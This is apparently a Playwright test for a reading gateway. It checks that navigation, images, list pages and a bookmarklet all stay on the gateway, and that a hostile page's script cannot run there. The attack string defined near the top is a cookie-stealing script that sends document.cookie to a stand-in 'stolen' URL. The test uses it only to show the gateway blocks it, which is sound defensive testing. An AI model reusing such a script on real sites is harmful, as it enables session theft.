// examples/gateway in Chromium: from the start page three links deep, a
// picture, a list, the original and back, and nothing leaves the gateway; a
// page with a hostile script can do nothing there.  Needs root, as the gateway.

import { asked, browser, counted, gateway } from './lib.mjs';

const attack = `<!DOCTYPE html><html><head><title>Quiet</title></head><body>
<p>A page with a script.</p>
<script>
document.title = 'ran';
try { document.title = 'cookie ' + document.cookie; } catch (e) { }
fetch('/read/https%3A%2F%2Fwww.example%2Fstolen?' + document.cookie);
new Image().src = '/read/https%3A%2F%2Fwww.example%2Fstolen';
</script>
<img src="/read/https%3A%2F%2Fwww.example%2Fstolen" onerror="document.title = 'ran'">
</body></html>`;

const { url, stop } = await gateway(`server => q{location = /attack {
    default_type text/html; return 200 '${attack.replace(/'/g, '"')}'; }}`);

const chromium = await browser();
const { check, finish } = counted('gateway');

// on a machine that does other things, too, all takes its time
async function opened(options) {
    const context = await chromium.newContext(options);

    context.setDefaultTimeout(120000);

    return context;
}

const at = (page) => decodeURIComponent(new URL(page.url()).pathname);

for (const javaScriptEnabled of [true, false]) {
    const context = await opened({ javaScriptEnabled });
    const page = await context.newPage();
    const left = [];
    const how = javaScriptEnabled ? 'with scripts' : 'without';

    asked(page, (address) => {
        if (!/^(?:data:|about:)/.test(address)
            && !address.startsWith(`${url}/`))
        {
            left.push(address);
        }
    });

    await page.goto(`${url}/`);
    await page.fill('#address', 'www.example/walk-1?a=b&c=d');
    await Promise.all([page.waitForNavigation(), page.click('button')]);
    check(at(page) === '/read/https://www.example/walk-1?a=b&c=d',
        `${how}: the form leads to ${at(page)}`);

    for (const n of [2, 3, 4]) {
        await Promise.all([page.waitForNavigation(),
            page.click('main a:has-text("along the shore")')]);
        check(at(page) === `/read/https://www.example/walk-${n}?from=${n - 1}&q=a%2Fb`,
            `${how}: link ${n - 1} leads to ${at(page)}`);
    }

    check(await page.textContent('h1') === 'The end of the walk',
        `${how}: there is the end of the walk`);

    const width = await page.locator('main img')
        .evaluate((img) => img.decode().then(() => img.naturalWidth))
        .catch(() => 0);

    check(width === 800, `${how}: the picture is ${width} wide`);

    // the original, and back
    await Promise.all([page.waitForNavigation(),
        page.click('text=Original page')]);
    check(at(page).startsWith('/original/https://www.example/walk-4?from=3'),
        `${how}: the original is at ${at(page)}`);
    check(await page.locator('a:has-text("Section 1")').count() > 0,
        `${how}: the original is whole`);
    await page.goBack();
    check(at(page).startsWith('/read/https://www.example/walk-4'),
        `${how}: back is ${at(page)}`);

    // a list page
    await page.goto(`${url}/read/https%3A%2F%2Fwww.example%2F`);

    const links = await page.locator('main a').evaluateAll(
        (all) => all.map((a) => a.href));

    check(links.length > 20 && links.every((a) => a.startsWith(`${url}/read/`)),
        `${how}: a list has ${links.length} links`);
    await Promise.all([page.waitForNavigation(),
        page.locator('main a').nth(3).click()]);
    check(at(page).startsWith('/read/https://www.example/'),
        `${how}: a link of the list leads to ${at(page)}`);

    check(left.length === 0, `${how}: left the gateway: ${left.join(' ')}`);
    await context.close();
}

// the bookmarklet, on a page elsewhere
{
    const context = await opened();
    const page = await context.newPage();

    await page.route('https://elsewhere.example/**', (route) => route.fulfill(
        { contentType: 'text/html', body: '<p>Elsewhere' }));
    await page.goto(`${url}/`);

    const bookmarklet = await page.getAttribute('#bookmarklet', 'href');

    await page.goto('https://elsewhere.example/a?b=%2F#c');
    await Promise.all([page.waitForURL(`${url}/**`),
        page.evaluate(bookmarklet.replace('javascript:', ''))]);
    check(at(page) === '/read/https://elsewhere.example/a?b=%2F',
        `the bookmarklet leads to ${at(page)}`);
    await context.close();
}

// the script runs where nothing keeps it from it, and on the gateway nowhere

for (const path of ['/control', '/original/https%3A%2F%2Fwww.example%2Fattack',
    '/read/https%3A%2F%2Fwww.example%2Fattack'])
{
    const context = await opened();
    const page = await context.newPage();
    const stolen = [];

    await context.addCookies([{ name: 'session', value: 'secret', url }]);
    await page.route(`${url}/control`, (route) => route.fulfill(
        { contentType: 'text/html', body: attack }));
    asked(page, (address) => {
        // the picture is asked of its site, as any other
        if (address.includes('stolen')
            && !address.startsWith(`${url}/image/https%3A%2F%2Fwww.example%2Fread`))
        {
            stolen.push(address);
        }
    });

    await page.goto(`${url}${path}`, { waitUntil: 'networkidle' });

    const ran = await page.title() !== 'Quiet' || stolen.length > 0;

    check(ran === (path === '/control'),
        `${path}: ${ran ? `ran: ${await page.title()}, ${stolen}` : 'did not run'}`);
    await context.close();
}

await chromium.close();
stop();
finish();
